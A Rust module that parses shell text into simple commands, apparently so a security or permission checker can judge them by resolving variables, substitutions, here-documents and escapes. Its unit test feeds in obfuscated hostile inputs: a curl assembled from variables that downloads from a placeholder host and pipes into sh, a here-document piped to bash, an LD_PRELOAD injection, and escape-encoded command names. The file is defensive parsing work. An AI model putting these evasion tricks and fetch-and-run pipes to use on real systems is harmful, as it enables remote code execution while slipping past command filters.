//! Shell text cut into simple commands (POSIX shell grammar as far as judging needs it): words
//! with quotes taken off, variables with known values put in, pipelines, redirections,
//! substitutions. Tolerant: whatever is not understood is a word.

use std::collections::BTreeMap;

/// Deepest nesting of substitutions that is followed.
const DEPTH: usize = 6;
/// Most commands kept of one text.
const COMMANDS: usize = 5000;

/// A simple command.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(crate) struct Simple {
    /// Words, quotes taken off. The content of a substitution stands in its word as `$()`.
    pub words: Vec<String>,
    /// Assignments in front (`LD_PRELOAD=x cmd`), or alone.
    pub assigns: Vec<(String, String)>,
    /// Redirections: operator and target.
    pub redirects: Vec<(String, String)>,
    /// Its output goes into the next command of the same pipeline.
    pub piped: bool,
    /// Text fed to it by a here-document.
    pub input: String,
    /// Number of the pipeline.
    pub pipeline: usize,
    /// Commands substituted into its words: indices of pipelines.
    pub inner: Vec<usize>,
    /// Line of the text, from 1.
    pub line: usize,
}

/// All simple commands of a text, those in substitutions too, in order of appearance.
pub(crate) fn commands(text: &str) -> Vec<Simple> {
    let mut state = State::default();
    parse(text, 1, 0, &mut state);
    state.out
}

#[derive(Default)]
struct State {
    out: Vec<Simple>,
    variables: BTreeMap<String, String>,
    pipelines: usize,
}

struct Cursor<'t> {
    text: &'t [u8],
    at: usize,
    line: usize,
}

impl Cursor<'_> {
    fn peek(&self) -> Option<u8> {
        self.text.get(self.at).copied()
    }
    fn next(&mut self) -> Option<u8> {
        let c = self.peek()?;
        self.at += 1;
        self.line += usize::from(c == b'\n');
        Some(c)
    }
    fn rest(&self) -> &[u8] {
        self.text.get(self.at..).unwrap_or_default()
    }
    /// The text up to the parenthesis that closes, with quotes respected.
    fn enclosed(&mut self, close: u8) -> String {
        let start = self.at;
        let mut depth = 0usize;
        let mut quote = None;
        while let Some(c) = self.next() {
            match (quote, c) {
                (None, b'\\') | (Some(b'"'), b'\\') => {
                    self.next();
                }
                (Some(q), c) if q == c => quote = None,
                (Some(_), _) => {}
                (None, b'\'' | b'"') if close != b'`' => quote = Some(c),
                (None, b'(') if close == b')' => depth += 1,
                (None, c) if c == close => {
                    if depth == 0 {
                        let end = self.at - 1;
                        return lossy(self.text.get(start..end));
                    }
                    depth -= 1;
                }
                _ => {}
            }
        }
        lossy(self.text.get(start..))
    }
}

fn lossy(bytes: Option<&[u8]>) -> String {
    String::from_utf8_lossy(bytes.unwrap_or_default()).into_owned()
}

/// Parses `text`; gives the numbers of its pipelines.
fn parse(text: &str, line: usize, depth: usize, state: &mut State) -> Vec<usize> {
    let mut cursor = Cursor {
        text: text.as_bytes(),
        at: 0,
        line,
    };
    let mut numbers = Vec::new();
    if depth > DEPTH {
        return numbers;
    }
    let mut current = Simple::default();
    let mut pipeline = state.pipelines;
    state.pipelines += 1;
    numbers.push(pipeline);
    let mut waiting: Vec<(String, bool)> = Vec::new();
    loop {
        while matches!(cursor.peek(), Some(b' ' | b'\t' | b'\r')) {
            cursor.at += 1;
        }
        let Some(c) = cursor.peek() else { break };
        if state.out.len() >= COMMANDS {
            break;
        }
        match c {
            b'\\' if cursor.rest().starts_with(b"\\\n") => {
                cursor.next();
                cursor.next();
            }
            b'#' => {
                while cursor.peek().is_some_and(|c| c != b'\n') {
                    cursor.at += 1;
                }
            }
            b'\n' | b';' | b'&' | b'|' | b'(' | b')' => {
                let redirect_both = cursor.rest().starts_with(b"&>");
                if redirect_both {
                    cursor.at += 2;
                    let target = word(&mut cursor, depth, state, &mut current.inner);
                    current.redirects.push((">".into(), target));
                    continue;
                }
                let pipe = c == b'|' && !cursor.rest().starts_with(b"||");
                cursor.next();
                while !pipe && c != b'\n' && cursor.peek() == Some(c) {
                    cursor.at += 1;
                }
                if pipe && cursor.peek() == Some(b'&') {
                    cursor.at += 1;
                }
                current.piped = pipe;
                finish(&mut current, pipeline, cursor.line, state);
                if !pipe {
                    pipeline = state.pipelines;
                    state.pipelines += 1;
                    numbers.push(pipeline);
                }
                if c == b'\n' {
                    for (end, strip) in waiting.drain(..) {
                        let body = here_document(&mut cursor, &end, strip);
                        if let Some(last) = state.out.last_mut() {
                            last.input.push_str(&body);
                        }
                    }
                }
            }
            b'<' | b'>' => redirect(&mut cursor, depth, state, &mut current, &mut waiting),
            b'0'..=b'9'
                if cursor
                    .rest()
                    .get(1)
                    .is_some_and(|c| matches!(c, b'<' | b'>')) =>
            {
                cursor.at += 1;
                redirect(&mut cursor, depth, state, &mut current, &mut waiting);
            }
            _ => {
                if current.words.is_empty() && current.assigns.is_empty() {
                    current.line = cursor.line;
                }
                let start = cursor.at;
                let value = word(&mut cursor, depth, state, &mut current.inner);
                if cursor.at == start {
                    cursor.next();
                    continue;
                }
                match assignment(&value) {
                    Some((name, value)) if current.words.is_empty() => {
                        state.variables.insert(name.to_owned(), value.to_owned());
                        current.assigns.push((name.to_owned(), value.to_owned()));
                    }
                    _ => current.words.push(value),
                }
            }
        }
    }
    finish(&mut current, pipeline, cursor.line, state);
    numbers
}

/// Words of the shell's grammar that stand in front of a command.
const GRAMMAR: &[&str] = &[
    "if", "then", "else", "elif", "fi", "do", "done", "while", "until", "{", "}", "!", "time",
    "case", "esac", "in",
];

fn finish(current: &mut Simple, pipeline: usize, line: usize, state: &mut State) {
    let mut done = std::mem::take(current);
    while done
        .words
        .first()
        .is_some_and(|w| GRAMMAR.contains(&w.as_str()))
    {
        done.words.remove(0);
    }
    // `a=1 cmd` was taken for words after `then`.
    while let Some((name, value)) = done.words.first().and_then(|w| assignment(w)) {
        let pair = (name.to_owned(), value.to_owned());
        state.variables.insert(pair.0.clone(), pair.1.clone());
        done.assigns.push(pair);
        done.words.remove(0);
    }
    if done.words.is_empty() && done.assigns.is_empty() && done.redirects.is_empty() {
        return;
    }
    done.pipeline = pipeline;
    if done.line == 0 {
        done.line = line;
    }
    state.out.push(done);
}

fn redirect(
    cursor: &mut Cursor<'_>,
    depth: usize,
    state: &mut State,
    current: &mut Simple,
    waiting: &mut Vec<(String, bool)>,
) {
    let mut operator = String::new();
    while let Some(c @ (b'<' | b'>' | b'&' | b'|')) = cursor.peek() {
        operator.push(char::from(c));
        cursor.at += 1;
        if operator.len() == 3 {
            break;
        }
    }
    let strip = operator == "<<" && cursor.peek() == Some(b'-');
    if strip {
        cursor.at += 1;
    }
    // `<(cmd)`: the command's output as a file.
    if matches!(operator.as_str(), "<" | ">") && cursor.peek() == Some(b'(') {
        cursor.at += 1;
        let line = cursor.line;
        let inside = cursor.enclosed(b')');
        let inner = parse(&inside, line, depth + 1, state);
        current.inner.extend(inner);
        current.words.push("<()".into());
        return;
    }
    while matches!(cursor.peek(), Some(b' ' | b'\t')) {
        cursor.at += 1;
    }
    let target = word(cursor, depth, state, &mut current.inner);
    match operator.as_str() {
        "<<" => waiting.push((target, strip)),
        "<<<" => current.input.push_str(&target),
        _ => current.redirects.push((operator, target)),
    }
}

fn here_document(cursor: &mut Cursor<'_>, end: &str, strip: bool) -> String {
    let mut body = String::new();
    while cursor.peek().is_some() {
        let from = cursor.at;
        while cursor.next().is_some_and(|c| c != b'\n') {}
        let line = lossy(cursor.text.get(from..cursor.at));
        let bare = line.trim_end_matches(['\n', '\r']);
        let bare = if strip {
            bare.trim_start_matches('\t')
        } else {
            bare
        };
        if bare == end {
            break;
        }
        body.push_str(&line);
    }
    body
}

fn assignment(word: &str) -> Option<(&str, &str)> {
    let (name, value) = word.split_once('=')?;
    let valid = name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
        && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_');
    valid.then_some((name, value))
}

/// Reads one word.
fn word(
    cursor: &mut Cursor<'_>,
    depth: usize,
    state: &mut State,
    inner: &mut Vec<usize>,
) -> String {
    let mut out = String::new();
    let mut quoted = false;
    let mut bytes: Vec<u8> = Vec::new();
    let flush = |bytes: &mut Vec<u8>, out: &mut String| {
        out.push_str(&String::from_utf8_lossy(bytes));
        bytes.clear();
    };
    while let Some(c) = cursor.peek() {
        if !quoted
            && matches!(
                c,
                b' ' | b'\t' | b'\r' | b'\n' | b';' | b'&' | b'|' | b'(' | b')' | b'<' | b'>'
            )
        {
            break;
        }
        match c {
            b'\'' if !quoted => {
                cursor.at += 1;
                while let Some(c) = cursor.next() {
                    if c == b'\'' {
                        break;
                    }
                    bytes.push(c);
                }
            }
            b'"' => {
                quoted = !quoted;
                cursor.at += 1;
            }
            b'\\' => {
                cursor.at += 1;
                match cursor.next() {
                    Some(b'\n') | None => {}
                    Some(c) => bytes.push(c),
                }
            }
            b'`' => {
                cursor.at += 1;
                let line = cursor.line;
                let inside = cursor.enclosed(b'`');
                inner.extend(parse(&inside, line, depth + 1, state));
                bytes.extend_from_slice(b"$()");
            }
            b'$' => {
                cursor.at += 1;
                match cursor.peek() {
                    Some(b'\'') if !quoted => {
                        cursor.at += 1;
                        while let Some(c) = cursor.next() {
                            match c {
                                b'\'' => break,
                                b'\\' => escape(cursor, &mut bytes),
                                c => bytes.push(c),
                            }
                        }
                    }
                    Some(b'(') => {
                        cursor.at += 1;
                        let line = cursor.line;
                        let inside = cursor.enclosed(b')');
                        inner.extend(parse(&inside, line, depth + 1, state));
                        bytes.extend_from_slice(b"$()");
                    }
                    Some(b'{') => {
                        cursor.at += 1;
                        let inside = cursor.enclosed(b'}');
                        let end = inside
                            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
                            .unwrap_or(inside.len());
                        let name = inside.get(..end).unwrap_or_default();
                        match state.variables.get(name) {
                            Some(value) => bytes.extend_from_slice(value.as_bytes()),
                            // `${IFS}` stands for a blank, to hide one.
                            None if name == "IFS" => bytes.push(b' '),
                            None => bytes.extend_from_slice(format!("${{{inside}}}").as_bytes()),
                        }
                    }
                    Some(c) if c.is_ascii_alphanumeric() || c == b'_' => {
                        let from = cursor.at;
                        while cursor
                            .peek()
                            .is_some_and(|c| c.is_ascii_alphanumeric() || c == b'_')
                        {
                            cursor.at += 1;
                        }
                        let name = lossy(cursor.text.get(from..cursor.at));
                        match state.variables.get(&name) {
                            Some(value) => bytes.extend_from_slice(value.as_bytes()),
                            None if name == "IFS" => bytes.push(b' '),
                            None => bytes.extend_from_slice(format!("${name}").as_bytes()),
                        }
                    }
                    _ => bytes.push(b'$'),
                }
            }
            c => {
                bytes.push(c);
                cursor.next();
            }
        }
        if bytes.len() > 1 << 20 {
            flush(&mut bytes, &mut out);
            break;
        }
    }
    flush(&mut bytes, &mut out);
    out
}

/// `\x63`, `\143`, `\n` in `$'…'`.
fn escape(cursor: &mut Cursor<'_>, bytes: &mut Vec<u8>) {
    match cursor.next() {
        Some(b'x') => {
            let mut value = 0u8;
            for _ in 0..2 {
                match cursor.peek().and_then(|c| char::from(c).to_digit(16)) {
                    Some(d) => {
                        value = value.wrapping_mul(16).wrapping_add(d as u8);
                        cursor.at += 1;
                    }
                    None => break,
                }
            }
            bytes.push(value);
        }
        Some(c @ b'0'..=b'7') => {
            let mut value = c - b'0';
            for _ in 0..2 {
                match cursor.peek() {
                    Some(c @ b'0'..=b'7') => {
                        value = value.wrapping_mul(8).wrapping_add(c - b'0');
                        cursor.at += 1;
                    }
                    _ => break,
                }
            }
            bytes.push(value);
        }
        Some(b'n') => bytes.push(b'\n'),
        Some(b't') => bytes.push(b'\t'),
        Some(c) => bytes.push(c),
        None => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn words_pipes_and_substitutions() {
        let c = commands(
            "a=cu; b=rl\n$a${b} -s 'http://x/'\"y\" | sh -c \"$(echo hi)\" >/dev/null 2>&1 # no\n",
        );
        let words: Vec<Vec<&str>> = c
            .iter()
            .map(|s| s.words.iter().map(String::as_str).collect())
            .collect();
        assert!(
            words.contains(&vec!["curl", "-s", "http://x/y"]),
            "{words:?}"
        );
        let curl = c
            .iter()
            .find(|s| s.words.first().is_some_and(|w| w == "curl"))
            .unwrap();
        let sh = c
            .iter()
            .find(|s| s.words.first().is_some_and(|w| w == "sh"))
            .unwrap();
        assert!(curl.piped && curl.pipeline == sh.pipeline && curl.line == 2);
        assert_eq!(sh.redirects[0], (">".into(), "/dev/null".into()));
        assert_eq!(sh.inner.len(), 1);
        let c = commands(
            "cat <<-E | bash\n\tid\n\tE\nif x; then LD_PRELOAD=/l y; fi\necho $'\\x63\\154' <(z)",
        );
        assert_eq!(c[0].input, "", "fed to the last command of the line: {c:?}");
        assert_eq!(c[1].input, "\tid\n");
        assert!(
            c.iter()
                .any(|s| s.assigns == [("LD_PRELOAD".into(), "/l".into())] && s.words == ["y"])
        );
        assert!(c.iter().any(|s| s.words == ["echo", "cl", "<()"]));
    }
}
